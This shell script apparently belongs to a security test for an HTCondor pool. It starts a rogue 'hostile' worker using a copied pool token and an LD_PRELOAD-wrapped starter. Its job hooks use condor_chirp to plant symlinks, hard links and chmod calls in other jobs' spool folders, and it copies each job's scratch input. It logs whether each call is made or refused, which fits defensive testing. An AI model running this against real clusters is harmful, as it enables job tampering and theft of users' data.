# A payload that becomes a worker, with the token of the worker that it runs on. The starter of that worker has the shadow of each of
# its jobs make the calls in /runs/calls, and keeps what came as the job's input. A call is "symbolic FROM TO" or "hard FROM TO", TO in the
# job's spool folder, or "chmod MODE FILE".
set -eu
c=/tmp/c
mkdir -p $c/log $c/execute $c/run $c/lock $c/spool $c/tokens.d $c/passwords.d
chmod 755 $c $c/log $c/execute $c/run $c/lock $c/spool
cp /htcpool/local/tokens.d/token $c/tokens.d/
chmod 600 $c/tokens.d/token
cat >$c/starter <<'S'
#!/bin/sh
LD_PRELOAD=/runs/starter.so exec /htcondor/usr/sbin/condor_starter "$@"
S
cat >$c/before <<'S'
#!/bin/sh
PATH=/bin:/usr/bin
while IFS= read -r line; do
    case $line in
        'ClusterId = '*) cluster=${line#*= } ;;
        'ProcId = '*) proc=${line#*= } ;;
    esac
done
spool=/htcpool/spool/spool/$((cluster % 10000))/$((proc % 10000))/cluster$cluster.proc$proc.subproc0
export _CONDOR_CHIRP_CONFIG="$_CONDOR_SCRATCH_DIR/.chirp.config"
[ -e "$_CONDOR_CHIRP_CONFIG" ] || _CONDOR_CHIRP_CONFIG=$_CONDOR_SCRATCH_DIR/../user/.chirp.config
chirp() {
    # It is not in the tree: whoever attacks brings it along.
    said=$(/htcondor/usr/lib/*/ld-linux-*.so.* --library-path "/htcondor/usr/lib:$(echo /htcondor/usr/lib/*-linux-gnu)" /runs/condor_chirp "$@" 2>&1) && made=made || made=refused
    echo "$kind $made $to $said" >>/runs/tried
}
while read -r kind from to; do
    case $kind in
        symbolic) chirp link -s "$from" "$spool/$to" ;;
        hard) chirp link "$from" "$spool/$to" ;;
        *) chirp "$kind" "$to" "$from" ;;
    esac
done </runs/calls
S
cat >$c/after <<'S'
#!/bin/sh
PATH=/bin:/usr/bin
cp -R "$_CONDOR_SCRATCH_DIR" /runs/taking && mv /runs/taking /runs/taken
S
chmod 755 $c/starter $c/before $c/after
cat >$c/condor_config <<'S'
include : /htcpool/config/condor_config
LOCAL_DIR = /tmp/c
STARTER = /tmp/c/starter
STARTER_JOB_HOOK_KEYWORD = X
X_HOOK_PREPARE_JOB_BEFORE_TRANSFER = /tmp/c/before
X_HOOK_PREPARE_JOB = /tmp/c/after
ENABLE_CHIRP = true
MASTER_NAME = hostile@$(UID_DOMAIN)
STARTD_NAME = hostile@$(UID_DOMAIN)
SHARED_PORT_PORT = 0
NUM_CPUS = 1
START = true
Hostile = true
STARTD_ATTRS = $(STARTD_ATTRS) Hostile
S
exec env -i PATH=/bin:/usr/bin CONDOR_CONFIG=$c/condor_config POD_NAME=hostile POD_IP="$POD_IP" POD_UID=hostile \
    WORKER_IMAGE="$WORKER_IMAGE" WORKER_MINI_CLUSTER=- WORKER_CPUS=1 WORKER_MEMORY_MIB=512 WORKER_DISK_KIB=4000000 \
    /htcondor/usr/sbin/condor_master -f
